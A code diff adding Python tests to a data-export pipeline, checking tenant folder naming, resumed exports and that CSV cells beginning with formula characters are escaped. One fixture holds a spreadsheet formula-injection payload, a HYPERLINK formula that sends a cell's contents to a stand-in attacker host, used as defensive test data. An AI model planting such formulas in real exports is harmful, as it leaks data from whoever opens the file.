@@ -129,3 +129,82 @@ def test_csv_export_carries_date_and_tenant_columns(settings: Settings, tmp_path
     assert table.num_rows == 5 and sorted(table.column("tenant").to_pylist(), key=str) == sorted(
         [e.tenant for e in events], key=str)
     assert os.path.basename(files[0]).startswith("part-")
+
+
+def test_any_tenant_name_and_formula_looking_cells_are_exported_safely(settings: Settings, tmp_path: Path) -> None:
+    run = uuid.uuid4().hex[:6]
+    long_tenant = ("Zürich-Ünïcødé-租户-" * 60)[:1000]  # ~2,000 bytes in UTF-8, ~6,000 URL-encoded
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    tenants = [long_tenant, "__none__", "~sha256-looks-hashed", "acme"]  # a reserved name and one like a hash
+    events = [_event(run, i, tenant=tenants[i % 4], emitted_at=DAY1).model_copy(update={"speaker": formula})
+              for i in range(8)]
+    events[3] = events[3].model_copy(update={"speaker": "-2+3", "gold_label": "@SUM(A1)"})
+    events[7] = events[7].model_copy(update={"speaker": "'already quoted"})
+    produce_raw(settings, settings.kafka.output_topic, [(e.conversation_id.encode(), e.to_bytes()) for e in events])
+    by_id = {e.event_id: e for e in events}
+    folders: dict[str, set[str]] = {}
+
+    for fmt in ("csv", "parquet"):
+        out = tmp_path / fmt
+        env = {"ERC_EXPORT__GROUP_ID": f"{settings.kafka.group_id}-{fmt}"}
+        assert "exported 8 events" in _export(settings, out, fmt, **env)
+        files = data_files(out)
+        names = folders[fmt] = {f.parent.name for f in files}
+        assert len(names) == 4 and "tenant=acme" in names and "tenant=__none__" not in names
+        assert all(len(name.encode()) <= 128 for name in names), names
+        hashed = sorted(name for name in names if name.startswith("tenant=~sha256-"))
+        assert len(hashed) == 3 and all(len(name) == len("tenant=~sha256-") + 32 for name in hashed)
+        # read back: every row, the tenant's real name, the cells as they were
+        rows = {r["event_id"]: r for r in read_dataset(out).to_pylist()}
+        assert set(rows) == set(by_id)
+        for event_id, e in by_id.items():
+            r = rows[event_id]
+            assert (r["tenant"], r["tenant_name"], r["speaker"], r["gold_label"]) == (
+                e.tenant, e.tenant, e.speaker, e.gold_label)
+        if fmt == "csv":  # what a spreadsheet opens: no cell starts a formula
+            cells = [row for f in files for row in csv.DictReader(f.open(encoding="utf-8"))]
+            assert {c["speaker"] for c in cells} == {"'" + formula, "'-2+3", "''already quoted"}
+            assert {c["gold_label"] for c in cells} == {"", "'@SUM(A1)"}
+            assert not [v for c in cells for v in c.values() if v and v[0] in "=+-@\t\r"]
+            assert {c["tenant"] for c in cells} == {c["tenant_name"] for c in cells} == set(tenants)
+        else:  # a plain Hive read (DuckDB, Spark) groups by tenant_name
+            plain = ds.dataset(str(out), format="parquet", partitioning="hive").to_table()
+            assert set(plain.column("tenant_name").to_pylist()) == set(tenants)
+
+    assert folders["csv"] == folders["parquet"]
+
+    # resumed: the same folders again (stable names), nothing twice
+    more = [_event(run, i, tenant=long_tenant, emitted_at=DAY1) for i in range(8, 12)]
+    produce_raw(settings, settings.kafka.output_topic,
+                [(e.conversation_id.encode(), e.to_bytes()) for e in more + events[:1]])
+    for fmt in ("csv", "parquet"):
+        out = tmp_path / fmt
+        output = _export(settings, out, fmt, ERC_EXPORT__GROUP_ID=f"{settings.kafka.group_id}-{fmt}")
+        assert "exported 4 events" in output and "1 copies dropped" in output
+        assert {f.parent.name for f in data_files(out)} == folders[fmt]
+        again = read_dataset(out)
+        assert again.num_rows == 12 and again.column("tenant").to_pylist().count(long_tenant) == 6
+
+
+def test_files_of_earlier_versions_read_alongside_new_ones(tmp_path: Path) -> None:
+    """Files written before ``tenant_name`` existed (the tenant only in the folder, or the CSV column) still read,
+    the tenant decoded once."""
+    import pyarrow as pa
+    import pyarrow.csv as pacsv
+
+    from erc_stream.export import _row, _write_file
+
+    old_schema = pa.schema([f for f in SCHEMA if f.name != "tenant_name"])
+    row = _row(_event("old", 1, tenant="a%2Fb c", emitted_at=DAY1), 0, 7)
+    del row["tenant_name"]
+    folder = tmp_path / "date=2026-01-05" / "tenant=a%252Fb%20c"
+    folder.mkdir(parents=True)
+    pq.write_table(pa.Table.from_pylist([row], schema=old_schema), folder / "part-old.parquet")
+    old_csv = pa.Table.from_pylist([{**row, "emitted_at": DAY1.isoformat(), "date": "2026-01-05",
+                                     "tenant": "x%20y"}])
+    (tmp_path / "date=2026-01-05" / "tenant=x%2520y").mkdir()
+    pacsv.write_csv(old_csv, tmp_path / "date=2026-01-05" / "tenant=x%2520y" / "part-old.csv")
+    new = _event("new", 2, tenant="a%2Fb c", emitted_at=DAY1)
+    _write_file(folder, pa.Table.from_pylist([_row(new, 0, 8)], schema=SCHEMA), "parquet", "2026-01-05", new.tenant)
+    table = read_dataset(tmp_path)
+    assert sorted(table.column("tenant").to_pylist()) == ["a%2Fb c", "a%2Fb c", "x%20y"]
